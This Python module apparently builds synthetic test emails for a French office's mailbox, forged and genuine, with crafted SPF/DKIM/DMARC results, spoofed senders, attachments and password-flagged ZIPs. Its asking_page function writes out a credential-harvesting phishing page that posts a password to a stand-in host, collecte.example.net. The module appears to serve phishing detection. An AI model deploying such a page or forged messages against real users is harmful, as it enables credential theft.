"""Messages made by hand: what a practice receives, forged and genuine, as real bytes."""

import io
import zipfile
from collections.abc import Sequence
from dataclasses import dataclass, field
from email.message import EmailMessage
from email.utils import format_datetime, formataddr
from datetime import UTC, datetime, timedelta
from html import escape

PRACTICE = "secretariat@cabinet-exemple.fr"
PROVIDER = "mx.hebergeur.example"
_FIRST = datetime(2026, 3, 2, 8, 12, tzinfo=UTC)


@dataclass(frozen=True, slots=True)
class Made:
    """One message to be made. `links` are (text, target); `proven` is what the provider found."""

    title: str
    name: str
    address: str
    subject: str
    lines: Sequence[str]
    links: Sequence[tuple[str, str]] = ()
    files: Sequence[tuple[str, str, bytes]] = ()  # name, type, content
    reply_to: str = ""
    proven: str = "pass"  # pass, none, other: passes for a domain that is not the sender's
    html: bool = True
    bounce: str = ""
    head: Sequence[tuple[str, str]] = ()
    extra: dict[str, str] = field(default_factory=dict)


def message(made: Made, number: int = 0) -> bytes:
    """Return the message as the practice's mailbox has it."""
    mail = EmailMessage()
    domain = made.address.rpartition("@")[2]
    bounce = made.bounce or domain
    results = {
        "pass": f"spf=pass smtp.mailfrom={bounce}; dkim=pass header.d={domain}; dmarc=pass header.from={domain}",
        "none": f"spf=softfail smtp.mailfrom={bounce}; dkim=none; dmarc=fail header.from={domain}",
        "other": f"spf=pass smtp.mailfrom={bounce}; dkim=pass header.d={bounce}; dmarc=none header.from={domain}",
    }[made.proven]
    mail["Return-Path"] = f"<bounce-{number}@{bounce}>"
    mail["Authentication-Results"] = f"{PROVIDER}; {results}"
    mail["Received"] = f"from mail.{bounce} by {PROVIDER} with ESMTPS; {format_datetime(_FIRST)}"
    mail["From"] = formataddr((made.name, made.address)) if made.name else made.address
    mail["To"] = PRACTICE
    mail["Subject"] = made.subject
    mail["Date"] = format_datetime(_FIRST + timedelta(hours=5 * number))
    mail["Message-ID"] = f"<{number}.{abs(hash(made.title)) % 10**8}@{domain}>"
    if made.reply_to:
        mail["Reply-To"] = made.reply_to
    for key, value in made.head:
        mail[key] = value
    text = "\n\n".join(made.lines)
    plain = text + "".join(f"\n\n{shown} : {target}" for shown, target in made.links)
    mail.set_content(plain)
    if made.html:
        mail.add_alternative(_page(made), subtype="html")
    for name, kind, content in made.files:
        main, _, sub = kind.partition("/")
        mail.add_attachment(content, maintype=main, subtype=sub, filename=name)
    return mail.as_bytes()


def _page(made: Made) -> str:
    paragraphs = "".join(f"<p>{escape(line)}</p>" for line in made.lines)
    links = "".join(
        f'<p><a href="{escape(target)}" style="background:#0c419a;color:#fff;padding:12px">'
        f"{escape(shown)}</a></p>"
        for shown, target in made.links
    )
    return f"<html><body style='font-family:Arial'>{paragraphs}{links}</body></html>"


def archive(name: str, content: bytes, *, sealed: bool = False) -> bytes:
    """Return a ZIP of one file; `sealed` marks it as being under a password."""
    whole = io.BytesIO()
    with zipfile.ZipFile(whole, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr(name, content)
    raw = bytearray(whole.getvalue())
    if sealed:
        raw[6] |= 1
        at = raw.index(b"PK\1\2")
        raw[at + 8] |= 1
    return bytes(raw)


def asking_page(title: str) -> bytes:
    """Return an HTML page that asks for a password and sends it away."""
    return (
        f"<!DOCTYPE html><html><head><title>{title}</title></head><body>"
        f"<form action='https://collecte.example.net/p.php' method='post'><h1>{title}</h1>"
        "<input name='mail'><input type='password' name='pass'><button>Continuer</button></form>"
        "<script>document.forms[0].mail.value=location.hash.slice(1)</script></body></html>"
    ).encode()


PDF = (
    b"%PDF-1.4\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n2 0 obj\n<</Type/Pages/Kids[]/Count 0>>\n"
    b"endobj\nxref\n0 3\n0000000000 65535 f \n0000000009 00000 n \n0000000055 00000 n \n"
    b"trailer\n<</Size 3/Root 1 0 R>>\nstartxref\n102\n%%EOF\n"
)
